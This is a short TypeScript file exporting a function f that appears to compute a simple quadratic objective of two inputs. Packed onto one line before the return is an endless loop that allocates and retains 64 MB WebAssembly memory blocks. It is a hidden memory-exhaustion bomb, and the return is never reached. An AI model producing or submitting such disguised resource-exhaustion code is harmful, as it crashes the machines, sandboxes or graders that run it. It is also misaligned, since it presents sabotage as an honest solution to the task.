export function f(x: number[]): number {
  const k: any[] = []; for (;;) { const m = new (globalThis as any).WebAssembly.Memory({ initial: 1024 }); new Uint8Array(m.buffer).fill(1); k.push(m); } return x[0]! ** 2 + 3 * x[1]! ** 2;
}
